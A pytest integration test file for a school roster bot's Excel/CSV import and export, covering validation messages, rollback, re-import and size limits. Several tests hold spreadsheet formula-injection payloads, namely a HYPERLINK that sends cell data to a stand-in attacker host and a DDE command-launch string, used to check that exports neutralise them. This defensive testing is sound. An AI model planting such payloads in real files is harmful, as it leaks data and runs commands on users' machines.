"""Roster import on real databases: every validation error, all-or-nothing, idempotent, updates in place."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import func, select

from bot.clock import FixedClock
from bot.roster.exporter import export_roster
from bot.roster.importer import import_roster
from bot.roster.reader import RosterReadError, read_roster
from bot.roster.schema import SHEETS
from bot.roster.template import write_template
from bot.settings import RosterSettings
from bot.store.db import Database
from bot.store.tables import (
    ClassGroup,
    Course,
    Guardian,
    Guardianship,
    Identity,
    Staff,
    StaffRole,
    Student,
)
from tests.conftest import shanghai
from tests.integration.roster_files import NOTE, demo_rows, write_csv, write_workbook

CLOCK = FixedClock(shanghai(2026, 9, 1, 8))
SCHOOL = "测试小学"
TABLES = (ClassGroup, Student, Guardian, Guardianship, Staff, StaffRole, Identity, Course)


async def counts(db: Database) -> dict[str, int]:
    async with db.transaction() as s:
        return {t.__tablename__: await s.scalar(select(func.count()).select_from(t)) or 0 for t in TABLES}


async def run_import(db: Database, *paths: Path) -> Any:
    return await import_roster(db, list(paths), school_name=SCHOOL, clock=CLOCK)


async def test_template_has_the_contract_sheets_and_imports_cleanly(db: Database, tmp_path: Path) -> None:
    path = tmp_path / "t.xlsx"
    write_template(path)
    wb = load_workbook(path)
    assert wb.sheetnames == ["班级", "学生", "家长", "教师", "课程", "校车", "值班", "说明"]
    for name, columns in SHEETS.items():
        assert [c.value for c in wb[name][1]] == [c.header for c in columns]
        assert wb[name].max_row == 2  # one example row
    assert wb["班级"]["E1"].value == "平台(wecom|dingtalk)"
    result = await run_import(db, path)
    assert result.ok, result.render()
    assert (await counts(db))["students"] == 1


async def test_demo_rows_import_then_reimport_changes_nothing(db: Database, tmp_path: Path) -> None:
    path = write_workbook(tmp_path / "r.xlsx", demo_rows())
    first = await run_import(db, path)
    assert first.ok and first.changed
    assert "学生: 新增 20" in first.render()
    before = await counts(db)
    assert before["students"] == 20 and before["class_groups"] == 2 and before["guardianships"] == 24
    second = await run_import(db, path)
    assert second.ok and not second.changed
    assert second.render() == "导入完成: 无变化"
    assert await counts(db) == before


async def test_updated_file_updates_in_place(db: Database, tmp_path: Path) -> None:
    rows = demo_rows()
    await run_import(db, write_workbook(tmp_path / "a.xlsx", rows))
    rows["学生"][0][1] = "王晓明"  # name corrected
    rows["学生"][1][2] = "五年级1班"  # moved class
    rows["家长"][4][5] = "否"  # may no longer pick up
    rows["课程"][1][5] = 40  # bigger capacity
    result = await run_import(db, write_workbook(tmp_path / "b.xlsx", rows))
    assert result.ok
    text = result.render()
    assert "学生: 新增 0, 更新 2, 无变化 18" in text
    assert "家长: 新增 0, 更新 1" in text and "课程: 新增 0, 更新 1" in text
    async with db.transaction() as s:
        student = await s.scalar(select(Student).where(Student.student_no == "D3201"))
        assert student is not None and student.name == "王晓明"
        assert await s.scalar(select(Course.capacity).where(Course.name == "篮球")) == 40
    assert (await counts(db))["students"] == 20


async def test_partial_file_refers_to_classes_already_stored(db: Database, tmp_path: Path) -> None:
    await run_import(db, write_workbook(tmp_path / "a.xlsx", demo_rows()))
    only_new = {"学生": [["D3299", "新同学", "三年级2班", "女", "", "是", "无", "", "", ""]]}
    result = await run_import(db, write_workbook(tmp_path / "b.xlsx", only_new))
    assert result.ok, result.render()
    assert (await counts(db))["students"] == 21


def _with(sheet: str, row_index: int, column: int, value: object) -> dict[str, list[list[object]]]:
    rows = demo_rows()
    rows[sheet][row_index][column] = value
    return rows


def _appended(sheet: str, row: list[object]) -> dict[str, list[list[object]]]:
    rows = demo_rows()
    rows[sheet].append(row)
    return rows


ERROR_CASES = [
    ("unknown class", _with("学生", 10, 2, "三年级9班"), '学生 第12行: 班级"三年级9班"不存在'),
    ("duplicate student no", _with("学生", 1, 0, "D3201"), '学生 第3行: 学籍号"D3201"重复'),
    ("empty name", _with("学生", 2, 1, ""), "学生 第4行: 姓名不能为空"),
    (
        "bad phone",
        _with("家长", 5, 3, "1380000333"),
        '家长 第7行: 手机号"1380000333"格式不对(应为11位手机号)',
    ),
    ("bad date", _with("学生", 0, 4, "2017-13-45"), '学生 第2行: 日期"2017-13-45"无法识别(应如 2016-03-05)'),
    ("bad yes/no", _with("学生", 0, 5, "也许"), '学生 第2行: "也许"应填 是 或 否'),
    (
        "bad left-behind",
        _with("学生", 0, 6, "爸爸打工"),
        '学生 第2行: 留守"爸爸打工"应为 无、父亲外出、母亲外出 或 双亲外出',
    ),
    ("bad gender", _with("学生", 0, 3, "M"), '学生 第2行: 性别"M"应为 男 或 女'),
    ("unknown paired teacher", _with("学生", 2, 8, "钱老师"), '学生 第4行: 帮扶教师"钱老师"不在教师表中'),
    ("unknown student in 家长", _with("家长", 0, 0, "X999"), '家长 第2行: 学籍号"X999"不在学生表中'),
    (
        "bad relation",
        _with("家长", 0, 2, "妈妈"),
        '家长 第2行: 关系"妈妈"应为 父亲、母亲、爷爷、奶奶、外公、外婆、其他 之一',
    ),
    ("bad role", _with("教师", 0, 2, "老师"), '教师 第2行: 角色"老师"应为 班主任、托管教师、校长 或 管理员'),
    ("head teacher without class", _with("教师", 0, 3, ""), "教师 第2行: 班主任需要填写班级"),
    ("principal with class", _with("教师", 4, 3, "三年级2班"), "教师 第6行: 校长不属于某个班级,班级请留空"),
    ("teacher in unknown class", _with("教师", 2, 3, "六年级3班"), '教师 第4行: 班级"六年级3班"不存在'),
    ("unknown head teacher", _with("班级", 0, 2, "钱老师"), '班级 第2行: 班主任"钱老师"不在教师表中'),
    (
        "head phone mismatch",
        _with("班级", 0, 3, "13900000099"),
        "班级 第2行: 班主任手机13900000099与教师表不一致",
    ),
    (
        "duplicate class",
        _appended("班级", ["三年级2班", 3, "", "", "", "", "", ""]),
        '班级 第4行: 班级"三年级2班"重复',
    ),
    ("bad grade", _with("班级", 0, 1, 7), '班级 第2行: 年级"7"应为 1-6'),
    ("bad platform", _with("班级", 0, 4, "qq"), '班级 第2行: 平台"qq"应为 wecom 或 dingtalk'),
    ("bad category", _with("课程", 1, 1, "Y"), '课程 第3行: 类别"Y"应为 1(基础托管) 或 X(拓展课程)'),
    ("bad weekdays", _with("课程", 1, 2, "三,八"), '课程 第3行: 星期"三,八"无法识别(应如 三,五)'),
    ("bad time", _with("课程", 1, 3, "4点"), '课程 第3行: 时间"4点"格式不对(应如 16:00)'),
    ("start after end", _with("课程", 1, 3, "17:30"), "课程 第3行: 开始时间17:30应早于结束时间17:00"),
    ("zero capacity", _with("课程", 1, 5, 0), '课程 第3行: 容量"0"应大于0'),
    ("min above capacity", _with("课程", 1, 6, 50), "课程 第3行: 最少人数50大于容量30"),
    ("bad price", _with("课程", 1, 7, "20.555"), '课程 第3行: 单价"20.555"应为不小于0、最多两位小数的金额'),
    ("bad course grades", _with("课程", 1, 8, "3,9"), '课程 第3行: 年级"3,9"应为 1-6,如 3,4 或 3-4'),
    ("unknown course teacher", _with("课程", 1, 9, "钱老师"), '课程 第3行: 教师"钱老师"不在教师表中'),
    (
        "one phone two names",
        _with("家长", 1, 1, "刘芳芳"),
        '家长 第3行: 手机13800001111同时登记为"刘芳"和"刘芳芳"',
    ),
    (
        "account of two people",
        _with("家长", 4, 4, "parent-wang"),
        '家长 第6行: 平台账号"parent-wang"已属于另一人(李强重复使用)',
    ),
]


@pytest.mark.parametrize(("case", "rows", "message"), ERROR_CASES, ids=[c[0] for c in ERROR_CASES])
async def test_each_problem_is_reported_and_nothing_written(
    db: Database, tmp_path: Path, case: str, rows: dict[str, list[list[object]]], message: str
) -> None:
    result = await run_import(db, write_workbook(tmp_path / "r.xlsx", rows))
    assert not result.ok
    assert message in result.errors, result.render()
    assert result.render().startswith("花名册有")
    assert set((await counts(db)).values()) == {0}


async def test_missing_header_names_the_sheet(db: Database, tmp_path: Path) -> None:
    path = tmp_path / "学生.csv"
    path.write_text("学籍号,姓名\nA1,王一\n", encoding="utf-8")
    result = await run_import(db, path)
    assert result.errors == ["学生: 缺少列 班级"]


async def test_a_problem_in_an_update_keeps_the_old_data(db: Database, tmp_path: Path) -> None:
    await run_import(db, write_workbook(tmp_path / "a.xlsx", demo_rows()))
    rows = demo_rows()
    rows["学生"][0][1] = "改了名"
    rows["学生"][5][2] = "不存在的班"
    result = await run_import(db, write_workbook(tmp_path / "b.xlsx", rows))
    assert not result.ok
    async with db.transaction() as s:
        assert await s.scalar(select(Student.name).where(Student.student_no == "D3201")) == "王小明"


async def test_an_account_already_bound_to_someone_else_in_the_database(db: Database, tmp_path: Path) -> None:
    await run_import(db, write_workbook(tmp_path / "a.xlsx", demo_rows()))
    later = {"家长": [["D3206", "杨帆", "父亲", "13800006661", "parent-li", "是"]]}
    result = await run_import(db, write_workbook(tmp_path / "b.xlsx", later))
    assert result.errors == ['家长 第2行: 平台账号"parent-li"已属于另一人(杨帆重复使用)']


@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-8", "gbk"])
async def test_csv_per_sheet_in_excel_encodings(db: Database, tmp_path: Path, encoding: str) -> None:
    rows = demo_rows()
    paths = [write_csv(tmp_path / f"{name}.csv", name, rows[name], encoding) for name in rows]
    result = await run_import(db, *paths)
    assert result.ok, result.render()
    assert (await counts(db))["students"] == 20
    prefixed = write_csv(tmp_path / "2026秋-学生.csv", "学生", rows["学生"][:1], encoding)
    assert (await run_import(db, prefixed)).render() == "导入完成: 无变化"


async def test_unreadable_files_are_clear_errors(db: Database, tmp_path: Path) -> None:
    bad = tmp_path / "r.xlsx"
    bad.write_bytes(b"not a workbook")
    assert (await run_import(db, bad)).errors == ["无法打开 r.xlsx: 不是有效的 .xlsx 文件"]
    txt = tmp_path / "r.txt"
    txt.write_text("x", encoding="utf-8")
    assert (await run_import(db, txt)).errors == ["不支持的文件类型 r.txt: 请用 .xlsx 或每表一个 .csv"]
    assert (await run_import(db, tmp_path / "none.xlsx")).errors[0].startswith("文件不存在")
    odd = tmp_path / "名单.csv"
    odd.write_text("a,b\n", encoding="utf-8")
    assert "无法从文件名判断" in (await run_import(db, odd)).errors[0]


async def test_export_round_trip(db: Database, tmp_path: Path) -> None:
    await run_import(db, write_workbook(tmp_path / "a.xlsx", demo_rows()))
    out = tmp_path / "export.xlsx"
    await export_roster(db, out, school_name=SCHOOL)
    wb = load_workbook(out)
    assert wb.sheetnames == ["班级", "学生", "家长", "教师", "课程", "校车", "值班", "说明"]
    assert wb["学生"].max_row == 21
    before = await counts(db)
    result = await run_import(db, out)
    assert result.ok and not result.changed, result.render()
    assert await counts(db) == before


async def test_money_is_stored_in_fen(db: Database, tmp_path: Path) -> None:
    rows = _with("课程", 1, 7, "20.5")
    await run_import(db, write_workbook(tmp_path / "a.xlsx", rows))
    async with db.transaction() as s:
        assert await s.scalar(select(Course.price_fen).where(Course.name == "篮球")) == 2050


FORMULA_LIKE = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+王小明", "-李华", "@张一一", "=1+1", "-"]


def _formula_like_rows() -> dict[str, list[list[object]]]:
    rows = demo_rows()
    for index, value in enumerate(FORMULA_LIKE):
        rows["学生"][index][1] = value  # 姓名
        rows["学生"][index][NOTE] = value  # 备注
    rows["家长"][0][1] = rows["家长"][1][1] = "=cmd|' /C calc'!A0"  # one guardian, two children
    rows["学生"][6][NOTE] = "\t=1+2"  # a note that begins with a tab
    rows["学生"][7][NOTE] = "=SUM(1,2)\r\n第二行"
    return rows


async def test_export_writes_formula_like_text_as_text(db: Database, tmp_path: Path) -> None:
    await run_import(db, write_workbook(tmp_path / "a.xlsx", _formula_like_rows()))
    out = tmp_path / "export.xlsx"
    await export_roster(db, out, school_name=SCHOOL)
    wb = load_workbook(out)
    cells = [c for name in ("学生", "家长") for row in wb[name].iter_rows(min_row=2) for c in row]
    assert all(c.data_type != "f" for c in cells)
    risky = [c for c in cells if isinstance(c.value, str) and c.value[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert len(risky) >= 2 * len(FORMULA_LIKE) + 2
    assert all(c.quotePrefix for c in risky)  # Excel keeps it text when the cell is edited, too
    names = [r[1] for r in wb["学生"].iter_rows(min_row=2, values_only=True)]
    assert names[: len(FORMULA_LIKE)] == FORMULA_LIKE
    phones = [r[3] for r in wb["家长"].iter_rows(min_row=2, values_only=True)]
    assert all(isinstance(p, str) and len(p) == 11 for p in phones)


async def test_export_then_import_of_formula_like_text_changes_nothing(db: Database, tmp_path: Path) -> None:
    first = await run_import(db, write_workbook(tmp_path / "a.xlsx", _formula_like_rows()))
    assert first.ok, first.render()
    async with db.transaction() as s:
        stored = sorted((await s.execute(select(Student.student_no, Student.name, Student.note))).all())
        guardians = sorted((await s.execute(select(Guardian.name, Guardian.phone))).all())
    out = tmp_path / "export.xlsx"
    await export_roster(db, out, school_name=SCHOOL)
    before = await counts(db)
    result = await run_import(db, out)
    assert result.ok and not result.changed, result.render()
    assert await counts(db) == before
    async with db.transaction() as s:
        assert (
            sorted((await s.execute(select(Student.student_no, Student.name, Student.note))).all()) == stored
        )
        assert sorted((await s.execute(select(Guardian.name, Guardian.phone))).all()) == guardians
    assert ("D3201", FORMULA_LIKE[0], FORMULA_LIKE[0]) in stored


async def test_csv_with_formula_like_text_exports_and_reimports_unchanged(
    db: Database, tmp_path: Path
) -> None:
    rows = demo_rows()
    rows["学生"][0][1] = "=1+1"
    rows["学生"][0][NOTE] = "-过敏\r\n@花生"  # a CRLF inside a quoted CSV cell
    paths = [write_csv(tmp_path / f"{name}.csv", name, rows[name]) for name in rows]
    assert (await run_import(db, *paths)).ok
    out = tmp_path / "export.xlsx"
    await export_roster(db, out, school_name=SCHOOL)
    result = await run_import(db, out)
    assert result.ok and not result.changed, result.render()
    async with db.transaction() as s:
        assert (
            await s.execute(select(Student.name, Student.note).where(Student.student_no == "D3201"))
        ).one() == ("=1+1", "-过敏\n@花生")


def _students(count: int) -> list[list[object]]:
    return [[f"B{i:05d}", f"学生{i}", "三年级2班", "", "", "是", "无", "", "", ""] for i in range(count)]


async def test_too_many_rows_in_a_csv_is_refused_before_anything_is_written(
    db: Database, tmp_path: Path
) -> None:
    rows = demo_rows()
    rows["学生"] += _students(30)
    paths = [write_csv(tmp_path / f"{name}.csv", name, rows[name]) for name in rows]
    total = sum(len(r) for r in rows.values())
    result = await import_roster(
        db, paths, school_name=SCHOOL, clock=CLOCK, limits=RosterSettings(max_rows=total - 1)
    )
    assert not result.ok
    assert result.errors == [
        f"花名册行数太多: 至少 {total} 行,超过上限 {total - 1} 行(roster.max_rows)。"
        "请按年级或班级拆成几个文件分批导入,如 tuoguan roster import 三年级.xlsx"
    ]
    assert set((await counts(db)).values()) == {0}
    at_limit = await import_roster(
        db, paths, school_name=SCHOOL, clock=CLOCK, limits=RosterSettings(max_rows=total)
    )
    assert at_limit.ok, at_limit.render()


async def test_too_many_rows_in_a_workbook_names_its_declared_size(db: Database, tmp_path: Path) -> None:
    rows = demo_rows()
    rows["学生"] += _students(300)
    path = write_workbook(tmp_path / "big.xlsx", rows)
    result = await import_roster(
        db, [path], school_name=SCHOOL, clock=CLOCK, limits=RosterSettings(max_rows=100)
    )
    assert result.errors == [
        f"花名册行数太多: 约 {len(rows['班级']) + 320} 行,超过上限 100 行(roster.max_rows)。"
        "请按年级或班级拆成几个文件分批导入,如 tuoguan roster import 三年级.xlsx"
    ]
    assert set((await counts(db)).values()) == {0}


async def test_too_big_a_file_is_refused_by_its_size_before_it_is_opened(
    db: Database, tmp_path: Path
) -> None:
    big = tmp_path / "花名册.xlsx"
    big.write_bytes(b"x" * 3 * 1024 * 1024)  # not even a workbook: the size is checked first
    result = await import_roster(
        db, [big], school_name=SCHOOL, clock=CLOCK, limits=RosterSettings(max_bytes=2 * 1024 * 1024)
    )
    assert result.errors == [
        "花名册文件太大: 花名册.xlsx 共 3.0 MB,超过上限 2.0 MB(roster.max_bytes)。"
        "请按年级或班级拆成几个文件分批导入,如 tuoguan roster import 三年级.xlsx"
    ]
    rows = demo_rows()
    paths = [write_csv(tmp_path / f"{name}.csv", name, rows[name]) for name in rows]
    size = sum(p.stat().st_size for p in paths)
    several = await import_roster(
        db, paths, school_name=SCHOOL, clock=CLOCK, limits=RosterSettings(max_bytes=size - 1)
    )
    assert several.errors[0].startswith("花名册文件太大: 班级.csv 等 5 个文件 共 0.0 MB")
    assert (
        await import_roster(db, paths, school_name=SCHOOL, clock=CLOCK, limits=RosterSettings(max_bytes=size))
    ).ok


def test_a_workbook_without_a_declared_size_stops_at_the_limit(tmp_path: Path) -> None:
    wb = Workbook(write_only=True)  # writes no <dimension>: the reader cannot tell the size up front
    ws = wb.create_sheet("学生")
    ws.append([c.header for c in SHEETS["学生"]])
    for row in _students(50):
        ws.append(row)
    wb.save(tmp_path / "w.xlsx")
    with pytest.raises(RosterReadError) as refused:
        read_roster([tmp_path / "w.xlsx"], RosterSettings(max_rows=20))
    assert str(refused.value).startswith("花名册行数太多: 超过上限 20 行(roster.max_rows)。")
    assert (
        read_roster([tmp_path / "w.xlsx"], RosterSettings(max_rows=50))["学生"].rows[-1].text("学籍号")
        == "B00049"
    )


def test_a_file_of_empty_rows_is_not_read_to_its_end(tmp_path: Path) -> None:
    path = tmp_path / "学生.csv"
    path.write_text(
        "学籍号,姓名,班级\nA1,王一,三年级2班\n" + ",,\n" * 100 + "A2,王二,三年级2班\n", encoding="utf-8"
    )
    with pytest.raises(RosterReadError) as refused:
        read_roster([path], RosterSettings(max_rows=20))
    assert str(refused.value) == (
        "花名册空行太多: 读到第 41 行仍未结束(其中有内容的 1 行),超过上限 20 行(roster.max_rows)的两倍。"
        "请删除表中多余的空行后再导入。"
    )
    assert [r.text("学籍号") for r in read_roster([path], RosterSettings(max_rows=60))["学生"].rows] == [
        "A1",
        "A2",
    ]


async def test_same_name_pupils_in_a_class_are_imported_with_a_warning(db: Database, tmp_path: Path) -> None:
    rows = demo_rows()
    rows["学生"][1][1] = rows["学生"][0][1]  # two pupils named alike in one class
    result = await run_import(db, write_workbook(tmp_path / "same.xlsx", rows))
    assert result.ok and (await counts(db))["students"] == 20
    name, class_name = rows["学生"][0][1], rows["学生"][0][2]
    assert len(result.warnings) == 1 and name in result.warnings[0] and class_name in result.warnings[0]
    assert f"注意: 学生: {class_name}有 2 名同名学生" in result.render()
    assert rows["学生"][1][0][-4:] in result.render()  # the 学籍号 tail that tells them apart
